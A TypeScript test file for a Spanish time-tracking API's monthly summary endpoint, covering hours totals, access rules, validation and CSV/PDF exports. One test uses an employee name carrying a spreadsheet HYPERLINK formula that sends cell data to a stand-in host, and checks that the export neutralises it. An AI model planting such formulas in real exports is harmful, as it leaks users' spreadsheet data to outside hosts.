import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import type { Response } from 'supertest';
import type { Empleado } from '../../src/empleados/entities/empleado.entity.js';
import { ROLE_FORBIDDEN_BODY } from '../support/aprobaciones.js';
import { startCalendarioWorld, type CalendarioWorld } from '../support/calendario-world.js';
import { today } from '../support/dates.js';
import { insertDelegacion } from '../support/delegacion.factory.js';
import { insertSolicitud } from '../support/solicitud.factory.js';

/**
 * GET /api/fichajes/resumen: June 2025 (30 days, 21 weekdays from Monday the 2nd) with a holiday on Wednesday
 * the 11th. Records are inserted with their instants, so the downloads' local times can be checked.
 */
const MES = '2025-06';
const FESTIVO = '2025-06-11';

/** Reads a binary answer (the PDF) into a Buffer. */
const binario = (res: Response, callback: (error: Error | null, body: Buffer) => void) => {
  const stream = res as unknown as NodeJS.ReadableStream;
  const partes: Buffer[] = [];
  stream.on('data', (parte: Buffer) => partes.push(parte));
  stream.on('end', () => callback(null, Buffer.concat(partes)));
};

async function textoDelPdf(bytes: Buffer): Promise<string> {
  const carga = getDocument({ data: new Uint8Array(bytes), standardFontDataUrl: `${process.cwd()}/node_modules/pdfjs-dist/standard_fonts/` });
  const pdf = await carga.promise;
  const paginas: string[] = [];
  for (let numero = 1; numero <= pdf.numPages; numero += 1) {
    const contenido = await (await pdf.getPage(numero)).getTextContent();
    paginas.push(contenido.items.map((item) => ('str' in item ? item.str : '')).join(' '));
  }
  await carga.destroy();
  return paginas.join('\n');
}

describe('The monthly summary: GET /api/fichajes/resumen', () => {
  let w: CalendarioWorld;
  let completa: number;
  let parcial: number;
  let ana: Empleado;
  let luis: Empleado;

  /** A record at an instant (UTC ISO), dated `fecha` (its UTC date by default); its hash is random. */
  const registro = async (who: Empleado, tipo: string, instante: string, modalidad = 'presencial', fecha = instante.slice(0, 10)) => {
    await w.t.db.query(`INSERT INTO fichaje (id_empleado, tipo, modalidad, instante, fecha, hash) VALUES ($1, $2, $3, $4, $5, $6)`, [
      who.id_empleado,
      tipo,
      modalidad,
      instante,
      fecha,
      randomBytes(32),
    ]);
  };
  const dia = async (who: Empleado, fecha: string, desde: string, hasta: string, modalidad = 'presencial') => {
    await registro(who, 'entrada', `${fecha}T${desde}:00Z`, modalidad);
    await registro(who, 'salida', `${fecha}T${hasta}:00Z`, modalidad);
  };
  const conJornada = async (idJornada: number, overrides = {}) => {
    const empleado = await w.t.factories.empleado(overrides);
    await w.t.factories.asignarJornada(empleado.id_empleado, idJornada, '2020-01-01');
    return empleado;
  };
  /** The answer; `binario` reads the body into a Buffer (the PDF), otherwise text is buffered as supertest does. */
  const leer = async (who: Empleado, query: string, accept?: string, { binario: comoBinario = false } = {}) => {
    const request = w.t.http.get(`/api/fichajes/resumen?${query}`).set('Authorization', await w.bearer(who));
    if (accept) request.set('Accept', accept);
    return comoBinario ? request.buffer(true).parse(binario) : request;
  };

  beforeAll(async () => {
    w = await startCalendarioWorld();
    completa = (await w.t.factories.jornada({ horas: [8, 8, 8, 8, 8, 0, 0] })).id_jornada;
    parcial = (await w.t.factories.jornada({ horas: [4, 4, 4, 4, 4, 0, 0] })).id_jornada;
    const festivo = await w.t.http.post('/api/dias-festivos').set('Authorization', await w.bearer(w.admin)).send({ fecha: FESTIVO, nombre: 'Fiesta de prueba' });
    expect(festivo.status).toBe(201);

    ana = await conJornada(completa, { nombre: 'Ana Completa', idCentroTrabajo: w.madrid.id_centro_trabajo });
    // Monday: 07:00–16:00 UTC (09:00–18:00 in Madrid) with a half-hour break: 510 minutes, 30 beyond the schedule.
    await registro(ana, 'entrada', '2025-06-02T07:00:00Z');
    await registro(ana, 'inicio_pausa', '2025-06-02T11:00:00Z');
    await registro(ana, 'fin_pausa', '2025-06-02T11:30:00Z');
    await registro(ana, 'salida', '2025-06-02T16:00:00Z');
    // Tuesday from home, an hour short; Wednesday the 4th a morning off and the afternoon worked; two hours on the holiday.
    await dia(ana, '2025-06-03', '08:00', '15:00', 'teletrabajo');
    await dia(ana, '2025-06-04', '09:00', '13:00');
    await dia(ana, FESTIVO, '08:00', '10:00');
    const mediaJornada = await insertSolicitud(w.t.db, ana.id_empleado, { idTipo: 1, idEstado: 2, fechaInicio: '2025-06-04', dias: 0.5 });
    await w.t.db.query(`UPDATE solicitud SET medio_dia_inicio = 'manana', medio_dia_fin = 'manana' WHERE id_solicitud = $1`, [mediaJornada]);

    luis = await conJornada(parcial, { nombre: 'Luis Parcial' });
    await dia(luis, '2025-06-02', '08:00', '13:00');
  });
  afterAll(() => w.t.close());

  describe('JSON', () => {
    it('gives a full-timer each day of the month and totals: beyond the schedule is overtime, the holiday and the half-day vacation expect less', async () => {
      const response = await leer(ana, `mes=${MES}`);

      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      const { dias, totales, ...resto } = response.body.data;
      expect(resto).toEqual({ id_empleado: ana.id_empleado, nombre: 'Ana Completa', mes: MES, tiempo_parcial: false });
      expect(dias).toHaveLength(30);
      expect(dias[1]).toEqual({
        fecha: '2025-06-02',
        estado: 'completo',
        modalidad: 'presencial',
        entrada: '2025-06-02T07:00:00.000Z',
        salida: '2025-06-02T16:00:00.000Z',
        minutos_trabajados: 510,
        minutos_pausa: 30,
        minutos_previstos: 480,
        minutos_exceso: 30,
        minutos_defecto: 0,
      });
      expect(dias[2]).toMatchObject({ fecha: '2025-06-03', modalidad: 'teletrabajo', minutos_trabajados: 420, minutos_defecto: 60 });
      expect(dias[3]).toMatchObject({ fecha: '2025-06-04', minutos_trabajados: 240, minutos_previstos: 240, minutos_exceso: 0, minutos_defecto: 0 });
      expect(dias[10]).toMatchObject({ fecha: FESTIVO, minutos_trabajados: 120, minutos_previstos: 0, minutos_exceso: 120 });
      expect(dias[0]).toMatchObject({ fecha: '2025-06-01', estado: 'sin_fichajes', entrada: null, salida: null, minutos_previstos: 0, minutos_defecto: 0 });
      // 20 working days of 480 minutes, less the half day; 17 of them without records.
      expect(totales).toEqual({
        tiempo_parcial: false,
        minutos_trabajados: 1290,
        minutos_previstos: 9360,
        minutos_ordinarios: 1140,
        minutos_extraordinarios: 150,
        minutos_complementarios: 0,
        minutos_defecto: 60 + 17 * 480,
        minutos_pausa: 30,
        dias_trabajados: 4,
        dias_presencial: 3,
        dias_teletrabajo: 1,
        dias_incompletos: 0,
      });
    });

    it("counts a part-timer's hours beyond the schedule as complementary, never overtime (ET 12.4.c)", async () => {
      const response = await leer(luis, `mes=${MES}`);

      expect(response.status).toBe(200);
      expect(response.body.data.tiempo_parcial).toBe(true);
      expect(response.body.data.totales).toMatchObject({
        tiempo_parcial: true,
        minutos_trabajados: 300,
        minutos_previstos: 20 * 240,
        minutos_ordinarios: 240,
        minutos_extraordinarios: 0,
        minutos_complementarios: 60,
        minutos_defecto: 19 * 240,
        dias_trabajados: 1,
      });
    });

    it('is empty for a month before the employee joined, and starts on fecha_alta in the month they joined', async () => {
      const nueva = await conJornada(completa, { nombre: 'Nueva Alta' });
      await w.t.db.query(`UPDATE empleado SET fecha_alta = '2025-06-16' WHERE id_empleado = $1`, [nueva.id_empleado]);

      const antes = await leer(nueva, 'mes=2025-05');
      const junio = await leer(nueva, `mes=${MES}`);

      expect(antes.status).toBe(200);
      expect(antes.body.data.dias).toEqual([]);
      expect(antes.body.data.totales).toMatchObject({ minutos_trabajados: 0, minutos_previstos: 0, minutos_defecto: 0, dias_trabajados: 0 });
      expect(junio.body.data.dias[0].fecha).toBe('2025-06-16');
      expect(junio.body.data.dias).toHaveLength(15);
    });
  });

  describe('whose summary', () => {
    let jefa: Empleado;
    let reporte: Empleado;
    let colega: Empleado;
    let delegada: Empleado;

    beforeAll(async () => {
      jefa = await w.t.factories.empleado();
      reporte = await conJornada(completa, { idResponsable: jefa.id_empleado, nombre: 'Rita Reporte' });
      colega = await w.t.factories.empleado({ idResponsable: jefa.id_empleado });
      delegada = await w.t.factories.empleado();
      await insertDelegacion(w.t.db, jefa.id_empleado, delegada.id_empleado, today(), today());
    });

    it("lets a manager and their delegate today read a report's summary", async () => {
      for (const lector of [jefa, delegada]) {
        const response = await leer(lector, `mes=${MES}&id_empleado=${reporte.id_empleado}`);
        expect(response.status).toBe(200);
        expect(response.body.data.nombre).toBe('Rita Reporte');
      }
    });

    it("refuses a colleague's summary with the role refusal, in every format", async () => {
      for (const formato of ['json', 'csv', 'pdf']) {
        const response = await leer(colega, `mes=${MES}&id_empleado=${reporte.id_empleado}&formato=${formato}`);
        expect(response.status).toBe(403);
        expect(response.body).toEqual(ROLE_FORBIDDEN_BODY);
      }
    });

    it("lets an Admin read anyone's, and answers 404 for an unknown employee", async () => {
      expect((await leer(w.admin, `mes=${MES}&id_empleado=${luis.id_empleado}`)).body.data.nombre).toBe('Luis Parcial');
      const desconocido = await leer(w.admin, `mes=${MES}&id_empleado=999999`);
      expect(desconocido.status).toBe(404);
      expect(desconocido.body.code).toBe('empleado_no_encontrado');
    });
  });

  describe('validation and negotiation', () => {
    const campos = (response: Response) => (response.body.errores ?? []).map((error: { campo: string }) => error.campo);

    it('refuses a malformed or missing mes with validacion naming it', async () => {
      for (const query of ['mes=2025-13', 'mes=2025-6', 'mes=junio', 'mes=2025-06-01', 'mes=1899-12', '']) {
        const response = await leer(ana, query);
        expect(response.status).toBe(400);
        expect(response.body.code).toBe('validacion');
        expect(campos(response)).toEqual(['mes']);
      }
    });

    it('refuses a month after the current one, naming mes, and serves the current one', async () => {
      const [anio, mes] = today().split('-').map(Number) as [number, number];
      const siguiente = mes === 12 ? `${anio + 1}-01` : `${anio}-${String(mes + 1).padStart(2, '0')}`;

      const futuro = await leer(ana, `mes=${siguiente}`);
      const actual = await leer(ana, `mes=${today().slice(0, 7)}`);

      expect(futuro.status).toBe(400);
      expect(futuro.body.code).toBe('mes_futuro');
      expect(campos(futuro)).toEqual(['mes']);
      expect(actual.status).toBe(200);
    });

    it('refuses an unknown formato naming it, and an Accept of only other types with 406', async () => {
      const formato = await leer(ana, `mes=${MES}&formato=xlsx`);
      expect(formato.status).toBe(400);
      expect(campos(formato)).toEqual(['formato']);

      const html = await leer(ana, `mes=${MES}`, 'text/html, image/png');
      expect(html.status).toBe(406);
      expect(html.headers['content-type']).toMatch(/^application\/json/);
      expect(html.body.code).toBe('formato_no_aceptable');
    });

    it('lets formato win over Accept, and answers JSON to a wildcard', async () => {
      const csvPeseAccept = await leer(ana, `mes=${MES}&formato=csv`, 'application/json');
      const comodin = await leer(ana, `mes=${MES}`, '*/*');

      expect(csvPeseAccept.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(comodin.headers['content-type']).toMatch(/^application\/json/);
    });
  });

  describe('downloads', () => {
    it('serves a CSV a spreadsheet opens: BOM, `;`, one row per day with Madrid times, a totals row and the hours split', async () => {
      const response = await leer(ana, `mes=${MES}`, 'text/csv');

      expect(response.status).toBe(200);
      expect(response.headers['content-disposition']).toBe(`attachment; filename="registro-jornada-${ana.id_empleado}-${MES}.csv"`);
      expect(response.headers['cache-control']).toBe('no-store');
      expect(response.text.charCodeAt(0)).toBe(0xfeff);
      const filas: string[][] = parse(response.text, { delimiter: ';', bom: true, relax_column_count: true, skip_empty_lines: true });
      const porEtiqueta = new Map(filas.map((fila) => [fila[0], fila.slice(1)]));
      expect(porEtiqueta.get('Empleado')).toEqual(['Ana Completa']);
      expect(porEtiqueta.get('Mes')).toEqual(['junio de 2025']);
      expect(porEtiqueta.get('Zona horaria')).toEqual(['Europe/Madrid']);
      const cabecera = filas.findIndex((fila) => fila[0] === 'Fecha');
      expect(filas[cabecera]).toEqual(['Fecha', 'Estado', 'Modalidad', 'Entrada', 'Salida', 'Trabajado', 'Pausas', 'Previsto', 'Exceso', 'Defecto']);
      expect(filas.slice(cabecera + 1, cabecera + 31).map((fila) => fila[0])).toEqual(
        Array.from({ length: 30 }, (_, indice) => `${String(indice + 1).padStart(2, '0')}/06/2025`),
      );
      expect(filas[cabecera + 2]).toEqual(['02/06/2025', 'Completa', 'Presencial', '09:00', '18:00', '8:30', '0:30', '8:00', '0:30', '0:00']);
      expect(filas[cabecera + 31]).toEqual(['Total', '', '', '', '', '21:30', '0:30', '156:00', '2:30', '137:00']);
      expect(porEtiqueta.get('Horas ordinarias')).toEqual(['19:00']);
      expect(porEtiqueta.get('Horas extraordinarias')).toEqual(['2:30']);
      expect(porEtiqueta.has('Horas complementarias')).toBe(false);
      expect(porEtiqueta.get('Días teletrabajo') ?? porEtiqueta.get('Días de teletrabajo')).toEqual(['1']);
    });

    it("neutralises a name a spreadsheet would run as a formula, and names a part-timer's complementary hours", async () => {
      const formula = await conJornada(parcial, { nombre: '=HYPERLINK("http://x.example/?"&A1;"ver")' });

      const response = await leer(formula, `mes=${MES}&formato=csv`);

      const filas: string[][] = parse(response.text, { delimiter: ';', bom: true, relax_column_count: true, skip_empty_lines: true });
      const porEtiqueta = new Map(filas.map((fila) => [fila[0], fila.slice(1)]));
      expect(porEtiqueta.get('Empleado')).toEqual([`'=HYPERLINK("http://x.example/?"&A1;"ver")`]);
      expect(porEtiqueta.get('Tiempo parcial')).toEqual(['Sí']);
      expect(porEtiqueta.get('Horas complementarias')).toEqual(['0:00']);
    });

    it('serves an A4 PDF naming the employee, the month, its days, the totals and ET art. 34.9', async () => {
      const response = await leer(ana, `mes=${MES}`, 'application/pdf', { binario: true });

      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe('application/pdf');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="registro-jornada-${ana.id_empleado}-${MES}.pdf"`);
      expect(response.headers['cache-control']).toBe('no-store');
      const bytes = response.body as Buffer;
      expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
      const texto = await textoDelPdf(bytes);
      expect(texto).toContain('Ana Completa');
      expect(texto).toContain('junio de 2025');
      for (const fecha of ['01/06/2025', '02/06/2025', '11/06/2025', '30/06/2025']) expect(texto).toContain(fecha);
      expect(texto).toMatch(/Total\s+21:30/);
      expect(texto).toContain('Horas extraordinarias: 2:30');
      expect(texto).toContain('art. 34.9');
    });

    it("adds the part-time note to a part-timer's PDF", async () => {
      const response = await leer(luis, `mes=${MES}&formato=pdf`, undefined, { binario: true });

      const texto = await textoDelPdf(response.body as Buffer);
      expect(texto).toContain('Luis Parcial');
      expect(texto).toContain('Horas complementarias: 1:00');
      expect(texto).toContain('12.4.c');
    });
  });
});
